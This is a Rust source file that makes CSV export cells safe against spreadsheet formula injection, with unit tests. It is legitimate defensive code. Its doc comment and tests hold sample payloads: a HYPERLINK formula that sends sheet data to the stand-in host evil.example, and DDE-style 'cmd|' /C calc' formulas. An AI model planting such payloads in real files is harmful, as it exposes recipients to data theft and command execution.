//! Cells of the CSV files Corridor writes (case exports, situation reports, import reports,
//! `corridor link` results), made safe to open in a spreadsheet program.
//!
//! Names, titles and refusal reasons come from whoever filled in a form or a list. A value
//! such as `=HYPERLINK("http://evil.example/?d="&A3,"Open")` would be a live formula in Excel
//! or LibreOffice, able to send the rest of the sheet elsewhere. OWASP's rule for CSV
//! injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! leading `'`, which spreadsheet programs take as "this is text" and do not show.
//!
//! Plain numbers (`-12`, `+93700123456`, `0.25`) are left alone: a spreadsheet reads them as
//! numbers, never as formulas, and phone numbers stay as typed.

use std::borrow::Cow;
use std::io::Write;

/// The characters that make a spreadsheet program read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The value as it may be written to a cell: unchanged, or with a leading `'` when a
/// spreadsheet program would take it for a formula.
pub fn neutralize(value: &str) -> Cow<'_, str> {
    // Spreadsheet programs skip leading spaces before they look for a formula.
    let start = value.trim_start_matches(' ');
    match start.chars().next() {
        Some(c) if TRIGGERS.contains(&c) && !plain_number(start) => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// `-12`, `+93700123456`, `-0.5`: a sign, digits and at most one decimal point.
fn plain_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix(['-', '+']) else {
        return false;
    };
    !rest.is_empty()
        && rest.bytes().any(|b| b.is_ascii_digit())
        && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && rest.bytes().filter(|b| *b == b'.').count() <= 1
}

/// A CSV writer whose every field goes through [`neutralize`]: the one way Corridor writes
/// CSV meant for people, so that no export can forget it.
pub struct SafeCsv<W: Write> {
    inner: csv::Writer<W>,
}

impl SafeCsv<Vec<u8>> {
    /// A writer into memory.
    pub fn in_memory() -> Self {
        SafeCsv::new(csv::Writer::from_writer(Vec::new()))
    }
}

impl<W: Write> SafeCsv<W> {
    /// Wraps a writer configured elsewhere (headers, delimiters).
    pub fn new(inner: csv::Writer<W>) -> Self {
        SafeCsv { inner }
    }

    /// Writes one record, every field neutralized.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for field in record {
            self.inner
                .write_field(neutralize(field.as_ref()).as_bytes())?;
        }
        self.inner.write_record(None::<&[u8]>)
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The written bytes' destination, flushed; the error is the I/O error of the flush.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_the_rest_is_untouched() {
        for live in [
            r#"=HYPERLINK("http://evil.example/?d="&A3,"Open")"#,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "-",
            "+",
        ] {
            let safe = neutralize(live);
            assert_eq!(safe, format!("'{live}"), "{live:?}");
        }
        for plain in [
            "Ahmad",
            "احمد",
            "C-12",
            "a=b",
            "",
            "-12",
            "+93700123456",
            "-0.5",
            "2021-08-30",
            "<5",
        ] {
            assert_eq!(neutralize(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn every_field_of_a_record_is_neutralized() {
        let mut w = SafeCsv::in_memory();
        w.write_record(["=1+1", "Ahmad", "@x"]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,Ahmad,'@x\n");
    }
}
